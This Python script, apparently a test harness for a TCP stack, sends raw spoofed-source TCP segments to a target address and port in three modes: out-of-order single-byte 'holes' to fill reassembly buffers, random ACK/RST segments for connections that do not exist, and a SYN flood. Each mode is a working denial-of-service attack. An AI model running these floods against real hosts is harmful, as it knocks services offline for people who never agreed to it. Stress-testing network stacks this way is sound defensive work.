"""remote.py INTERFACE MAC ADDRESS PORT ATTACK SECONDS: a remote peer that speaks TCP by itself, from addresses that no
kernel has.

  holes     connections that send single bytes, each behind a hole
  acks      segments of connections that there are not, and acknowledgements of what was not sent
  syns      requests that are never completed

"connected N" says how many connections were made, "done" that it has ended by itself."""
import os, random, socket, struct, sys, time

interface, mac, address, port, attack, seconds = sys.argv[1:7]
port, end = int(port), time.monotonic() + float(seconds)
packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
packet.bind((interface, 0))
packet.settimeout(0.5)
ethernet = bytes.fromhex(mac.replace(":", "")) + packet.getsockname()[4] + b"\x08\x00"
SYN, RST, ACK = 2, 4, 16


def fold(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(peer, seq, ack, flags, data=b"", options=b""):
    source, source_port = peer
    ends = socket.inet_aton(source) + socket.inet_aton(address)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      (20 + len(options)) // 4 << 4, flags, 65535, 0, 0) + options + data
    tcp = tcp[:16] + struct.pack("!H", fold(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0x4000, 64, 6, 0) + ends
    return ethernet + ip[:10] + struct.pack("!H", fold(ip)) + ip[12:] + tcp


def send(frame):
    try:
        packet.send(frame)
    except OSError:
        time.sleep(0.001)


def answer(peer):
    """The SYN-ACK's number, or None."""
    late = time.monotonic() + 1
    while time.monotonic() < late:
        try:
            frame = packet.recv(2048)
        except socket.timeout:
            break
        if frame[30:34] == socket.inet_aton(peer[0]) and struct.unpack("!H", frame[36:38])[0] == peer[1] \
                and frame[47] & (SYN | ACK) == SYN | ACK:
            return struct.unpack("!I", frame[38:42])[0]
    return None


def connect(peer, isn):
    send(segment(peer, isn, 0, SYN, options=bytes([2, 4, 5, 180, 1, 1, 4, 2])))
    number = answer(peer)
    if number is not None:
        send(segment(peer, isn + 1, number + 1, ACK))
    return number


def peers(n):
    return [("10.9.0.%d" % (100 + i % 100), 20000 + i) for i in range(n)]


if attack == "holes":
    made = [(peer, number) for peer in peers(40) for number in [connect(peer, 1000)] if number is not None]
    print("connected", len(made), flush=True)
    at = 0
    while time.monotonic() < end:
        for peer, number in made:
            for i in range(8):
                send(segment(peer, 1003 + (at + i) * 2 % 60000, number + 1, ACK, b"x"))
        at += 8
else:
    print("connected 0", flush=True)
    while time.monotonic() < end:
        peer = ("10.9.0.%d" % random.randrange(100, 250), random.randrange(1024, 65536))
        flags = SYN if attack == "syns" else random.choice([ACK, RST, ACK | RST, ACK | SYN])
        send(segment(peer, random.getrandbits(32), random.getrandbits(32), flags, b"" if attack == "syns" else os.urandom(3)))
print("done", flush=True)
